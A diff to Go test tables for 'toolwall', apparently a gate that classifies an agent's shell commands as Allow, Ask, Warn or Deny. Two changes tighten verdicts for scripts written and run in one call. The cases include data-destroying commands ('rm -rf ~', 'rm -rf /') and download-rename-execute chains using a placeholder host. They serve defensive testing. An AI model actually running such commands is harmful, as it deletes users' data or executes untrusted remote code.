@@ -205,7 +205,7 @@ func TestChainMemory(t *testing.T) {
 		{"heredoc script then run", []step{{record: "cat > /tmp/x.sh <<'EOF'\nrm -rf ~\nEOF"}}, "bash /tmp/x.sh", toolwall.Ask},
 		{"echo script then source", []step{{record: "cd /tmp && echo 'rm -rf $HOME/*' > y.sh"}}, ". /tmp/y.sh", toolwall.Ask},
 		{"harmless heredoc script then run", []step{{record: "cat > /tmp/x.sh <<'EOF'\ngo test ./...\nEOF"}}, "bash /tmp/x.sh", toolwall.Allow},
-		{"written and run in one call", nil, "echo 'rm -rf ~' > x.sh; bash x.sh", toolwall.Ask},
+		{"written and run in one call: the script is read", nil, "echo 'rm -rf ~' > x.sh; bash x.sh", toolwall.Deny},
 		{"download, rename, run", []step{{record: "curl -o x.txt https://x.example/x"}, {record: "mv x.txt run.sh"}}, "bash run.sh", toolwall.Deny},
 		{"download, copy elsewhere, run", []step{{record: "wget https://x.example/tool"}, {record: "cp tool /tmp/t"}}, "/tmp/t", toolwall.Deny},
 		{"rename of another file then run", []step{{record: "curl -o x.txt https://x.example/x"}, {record: "mv notes.txt run.sh"}}, "bash run.sh", toolwall.Allow},
@@ -312,7 +312,7 @@ func TestReviewRoutes(t *testing.T) {
 		{"ls\nrm -rf /\n)", toolwall.Deny},
 		{"echo 'unterminated", toolwall.Warn},
 		{"tee x.sh <<'EOF'\nrm -rf ~\nEOF\nsh x.sh", toolwall.Ask},
-		{"printf '%s\\n' 'rm -rf ~' > x.sh; sh x.sh", toolwall.Ask},
+		{"printf '%s\\n' 'rm -rf ~' > x.sh; sh x.sh", toolwall.Deny},
 		{"printf '%s\\n' 'make test' > x.sh; sh x.sh", toolwall.Allow},
 	} {
 		if v := g.Evaluate(context.Background(), bashCall(tt.cmd)); v.Action != tt.want {
